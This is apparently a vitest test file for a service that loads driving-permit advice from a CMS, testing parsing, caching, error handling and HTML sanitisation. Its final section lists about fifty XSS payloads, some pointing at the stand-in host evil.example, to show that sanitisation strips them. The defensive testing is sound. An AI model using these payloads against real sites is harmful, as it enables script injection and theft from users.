import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { type KnownVerdict, verdictOf } from '@/domain/destinations/permit-verdict'
import { loadWirePermits, readPermitDetails } from '@/server/catalog/permits'
import { type CmsTimings, createPermitSource, defaultTimings } from '@/server/gateways/permit-cms'
import { openTestBackend } from '../support/backend'

const cleanups: (() => Promise<unknown>)[] = []
afterEach(async () => {
  await Promise.all(cleanups.splice(0).map(close => close()))
})

/** Starts a CMS with this response. Returns its URL and a counter of its requests. */
async function startCms(listener: RequestListener) {
  let asked = 0
  const server = createServer((request, response) => {
    asked += 1
    listener(request, response)
  })
  await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening))
  const close = () =>
    new Promise(closed => {
      server.close(closed)
      server.closeAllConnections()
    })
  cleanups.push(close)
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}/countries.json`, asked: () => asked, close }
}

const respondWith =
  (body: unknown, status = 200): RequestListener =>
  (_, response) =>
    response
      .writeHead(status, { 'content-type': 'application/json' })
      .end(typeof body === 'string' ? body : JSON.stringify(body))

/**
 * The permit source of a URL, with its log and a clock. Tests that are not about waiting
 * wait as long as the machine needs.
 */
function createTestPermits(cmsUrl: string | undefined, times: Partial<CmsTimings> = {}) {
  const log = { warn: vi.fn() }
  let now = 0
  const permits = createPermitSource({
    env: { cmsUrl },
    log,
    timings: { ...defaultTimings, maxWaitMs: 30_000, ...times },
    clock: () => now,
  })
  return {
    permits,
    pass: (milliseconds: number) => {
      now += milliseconds
    },
    known: async () => [...(await permits()).table.keys()],
    logged: () => JSON.stringify(log.warn.mock.calls),
    warnings: () => log.warn.mock.calls.length,
  }
}

const france = { from_: 'yes', in_: 'yes', digital_copy: true, validity: 3 }

const table = {
  fr: { ...france, country_link: '/international-drivers-license-france/' },
  ID: { ...france, digital_copy: false, validity: 1, recommendedLicense: 40 },
  Libya: { ...france, in_: 'yes_with_conditions', condition_using: '<p>By <b>day</b> only</p>' },
  Bali: { ...france, country_code: 'ID', digital_copy: false, validity: 1 },
  jp: { ...france, validity: 0, in_: 'no', description: 'Ask the embassy' },
}

describe('the country table of the CMS', () => {
  it('is the source of the advice that customers see', async () => {
    const { url } = await startCms(respondWith(table))
    const { permits, warnings } = createTestPermits(url)
    const rules = (await permits()).table
    const verdict = (id: string) => verdictOf(rules.get(id)) as KnownVerdict
    expect(['fr', 'id', 'ly', 'x-bali', 'jp', 'de'].map(id => verdict(id).kind)).toEqual([
      'accepted',
      'one_year_printed',
      'conditions',
      'one_year_printed',
      'not_accepted',
      'unknown',
    ])
    expect(verdict('fr').link).toBe('/international-drivers-license-france/')
    expect(verdict('id').recommendedLicense).toBe(40)
    expect(verdict('jp').lines).toEqual(['lines.not_accepted'])
    expect(warnings()).toBe(0)
  })

  it('may be a list', async () => {
    const { url } = await startCms(
      respondWith([
        { ...france, country_code: 'FR' },
        { ...france, country_code: 'Libya' },
      ]),
    )
    expect(await createTestPermits(url).known()).toEqual(['fr', 'ly'])
  })

  it('adds its own texts to the pages of a country and to the details call', async () => {
    const { url } = await startCms(respondWith(table))
    const { permits } = createTestPermits(url)
    const words = {
      condition_issuing: '',
      condition_using: '<p>By <b>day</b> only</p>',
      description: '',
    }
    const page = await loadWirePermits({ permits }, ['LY', 'fr', 'zz'])
    expect(page.details).toEqual({ ly: words })
    expect(page.groups.filter(group => group.has_note)).toEqual([])
    expect(await readPermitDetails({ permits }, { params: { id: 'ly' } })).toEqual(words)
    for (const id of ['fr', 'zz', '__proto__', ''])
      await expect(readPermitDetails({ permits }, { params: { id } })).rejects.toMatchObject({
        code: 'not_found',
      })
  })

  it('drops unreadable records only', async () => {
    const bad = { de: { ...france, validity: 5 }, at: 'yes', Atlantis: france, pt: null }
    const { url } = await startCms(respondWith({ ...bad, ...table }))
    const { known, logged } = createTestPermits(url)
    expect(await known()).toEqual(['fr', 'id', 'ly', 'x-bali', 'jp'])
    expect(logged()).toContain('"kept":5,"dropped":4,"first":["de","at","Atlantis","pt"]')
  })

  it('is the built-in one without a CMS', async () => {
    const { table: rules, details } = await createTestPermits(undefined).permits()
    expect(rules.size).toBe(252)
    expect(rules.get('jp')?.has_note).toBe(true)
    expect(details.size).toBe(0)
  })

  it('is fetched from CMS_URL', async () => {
    const { url } = await startCms(respondWith(table))
    const shop = await openTestBackend({ variables: { CMS_URL: url } })
    cleanups.push(shop.close)
    await vi.waitFor(async () => expect((await shop.backend.permits()).table.size).toBe(5))
  })
})

const canary = 'canary@example.com'

describe('there is no advice, and the log gives the reason without the response, when the CMS', () => {
  it.each<[string, RequestListener, string]>([
    ['answers 500', respondWith({ ...table, canary }, 500), 'answered 500'],
    ['answers 404', respondWith(canary, 404), 'answered 404'],
    ['answers 204', (_, response) => response.writeHead(204).end(), 'answered 204'],
    ['answers garbage', respondWith(`${canary} {"fr":`), 'no JSON'],
    ['answers with an empty body', respondWith(''), 'no JSON'],
    ['answers with HTML', respondWith(`<html>${canary}</html>`), 'no JSON'],
    ['answers null', respondWith('null'), 'no table'],
    ['answers a number', respondWith('42'), 'no table'],
    ['answers a string', respondWith(JSON.stringify(canary)), 'no table'],
    ['answers an empty list', respondWith([]), 'no table'],
    ['answers an empty object', respondWith({}), 'no table'],
    ['answers with another shape', respondWith({ error: canary, countries: [canary] }), 'no table'],
    ['has only bad records', respondWith({ fr: { ...france, validity: '3' } }), 'no table'],
    ['is nested too deeply', respondWith(`${'['.repeat(200_000)}${']'.repeat(200_000)}`), 'no'],
    [
      'breaks off the body',
      (_, response) => response.writeHead(200).write('{', () => response.destroy()),
      '',
    ],
    ['closes the connection', (_, response) => void response.destroy(), 'fetch failed'],
  ])('%s', async (_, listener, reason) => {
    const { url } = await startCms(listener)
    const { permits, logged, warnings } = createTestPermits(url)
    expect(await loadWirePermits({ permits }, ['fr'])).toEqual({ groups: [], details: {} })
    expect(warnings()).toBe(1)
    expect(logged()).toContain(reason)
    expect(logged()).not.toContain(canary)
  })

  it.each([
    ['a content length', true],
    ['no content length', false],
  ])('sends 3 MB with %s', async (_, saysSo) => {
    const body = JSON.stringify({ ...table, padding: 'x'.repeat(3 * 1024 * 1024) })
    const { url } = await startCms((_, response) => {
      if (saysSo) response.setHeader('content-length', body.length)
      response.end(body)
    })
    const { known, logged } = createTestPermits(url)
    expect(await known()).toEqual([])
    expect(logged()).toContain('too large')
  })

  it('refuses the connection', async () => {
    const { url, close } = await startCms(respondWith(table))
    await close()
    const { known, logged } = createTestPermits(url)
    expect(await known()).toEqual([])
    expect(logged()).toContain('ECONNREFUSED')
  })

  it('redirects to another address', async () => {
    const elsewhere = await startCms(respondWith(table))
    const { url } = await startCms((_, response) =>
      response.writeHead(302, { location: elsewhere.url }).end(),
    )
    const { known, logged } = createTestPermits(url)
    expect(await known()).toEqual([])
    expect(logged()).toContain('answered 302')
    expect(elsewhere.asked()).toBe(0)
  })

  it.each<[string, RequestListener]>([
    ['never answers', () => undefined],
    ['never finishes the body', (_, response) => void response.writeHead(200).write('{"fr":')],
  ])('%s', async (_, listener) => {
    const { url } = await startCms(listener)
    const { known, logged } = createTestPermits(url, { timeoutMs: 30 })
    expect(await known()).toEqual([])
    expect(logged()).toContain('TimeoutError')
  })
})

describe('a page', () => {
  it('continues without advice while the table is slow, and the next one has it', async () => {
    let release = () => undefined as unknown
    const { url, asked } = await startCms((request, response) => {
      release = () => respondWith(table)(request, response)
    })
    const { known } = createTestPermits(url, { maxWaitMs: 10 })
    expect(await known()).toEqual([])
    expect(await known()).toEqual([])
    await vi.waitFor(() => expect(asked()).toBe(1))
    release()
    await vi.waitFor(async () => expect(await known()).toContain('fr'))
    expect(asked()).toBe(1)
  })

  it('shares one fetch with all others', async () => {
    const { url, asked } = await startCms(respondWith(table))
    const { known } = createTestPermits(url)
    const all = await Promise.all(Array.from({ length: 20 }, known))
    expect(all.every(found => found.includes('fr'))).toBe(true)
    expect(asked()).toBe(1)
  })

  it('uses a table for ten minutes, and never waits for a newer one', async () => {
    let answer: unknown = table
    const { url, asked } = await startCms((...exchange) => respondWith(answer)(...exchange))
    const { known, pass } = createTestPermits(url)
    await known()
    answer = { de: france }
    pass(defaultTimings.maxAgeMs - 1)
    expect(await known()).toContain('fr')
    expect(asked()).toBe(1)
    pass(1)
    expect(await known()).toContain('fr')
    await vi.waitFor(async () => expect(await known()).toEqual(['de']))
    expect(asked()).toBe(2)
  })

  it('does not ask a failing CMS again for half a minute', async () => {
    let status = 500
    const { url, asked } = await startCms((...exchange) => respondWith(table, status)(...exchange))
    const { known, pass, warnings } = createTestPermits(url)
    expect([await known(), await known()]).toEqual([[], []])
    status = 200
    pass(defaultTimings.backoffMs - 1)
    expect(await known()).toEqual([])
    expect([asked(), warnings()]).toEqual([1, 1])
    pass(1)
    expect(await known()).toContain('fr')
    expect(asked()).toBe(2)
  })

  it('uses a stale table while the CMS fails, but only for a day', async () => {
    let status = 200
    const { url } = await startCms((...exchange) => respondWith(table, status)(...exchange))
    const { known, pass, warnings } = createTestPermits(url)
    await known()
    status = 500
    pass(defaultTimings.maxAgeMs)
    expect(await known()).toContain('fr')
    await vi.waitFor(() => expect(warnings()).toBe(1))
    pass(defaultTimings.staleIfErrorMs - defaultTimings.maxAgeMs - 1)
    expect(await known()).toContain('fr')
    await vi.waitFor(() => expect(warnings()).toBe(2))
    pass(defaultTimings.backoffMs)
    expect(await known()).toEqual([])
  })
})

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
  '<b/onpointerenter=alert(1)>a</b>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="  java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="https://evil.example/&quot; onclick=&quot;alert(1)">a</a>',
  '<a href=\'https://evil.example/" onclick="alert(1)\'>a</a>',
  '<a href="https://a.example" target="x" rel="opener" ping="https://evil.example" download>a</a>',
  '<a xlink:href="javascript:alert(1)" href="https://a.example">a</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<style>@import "//evil.example"; * { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(https://evil.example/track)">a</p>',
  '<link rel=stylesheet href=//evil.example><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.example>',
  '<form action="https://evil.example"><input name=card><button formaction="javascript:alert(1)">a',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<p>--!><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<<p>img src=x onerror=alert(1)//<</p>',
  '<p title="a>b" <img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
  '<p id="__NEXT_DATA__">a</p><form id=token><input name=attributes>',
  `${'<b>'.repeat(500)}<img src=x onerror=alert(1)>`,
  '<p>a\u0000<scr\u0000ipt>alert(1)</script>',
]

/** All that may reach a page: text, plain tags without attributes, https links. */
const harmless = new RegExp(
  `^(?:[^<>]|</?(?:p|b|strong|i|em|ul|ol|li)>|<br />|</a>|` +
    `<a href="https://[^"<>\\s]*" rel="noopener noreferrer" target="_blank">)*$`,
)

describe('hostile HTML', () => {
  it('never reaches a page', async () => {
    const records = hostile.map((html, at) => ({
      ...france,
      country_code: ['fr', 'de', 'it'][at % 3],
      description: html,
      condition_using: `<p>Before ${html} after</p>`,
      condition_issuing: html.toUpperCase(),
    }))
    for (const record of records) {
      const { url, close } = await startCms(respondWith([record]))
      const { details } = await createTestPermits(url).permits()
      for (const html of [...details.values()].flatMap(words => Object.values(words)))
        expect(html).toMatch(harmless)
      await close()
    }
  })

  it('in a name or a link is dropped', async () => {
    const harm = '"><script>alert(1)</script>'
    const { url } = await startCms(
      respondWith({
        fr: { ...france, country_name: harm, country_link: `https://a.example/${harm}` },
      }),
    )
    const { permits } = createTestPermits(url)
    const page = JSON.stringify(await loadWirePermits({ permits }, ['fr']))
    expect(page).not.toContain('script')
    expect(page).toContain('"destinations":"fr"')
  })
})
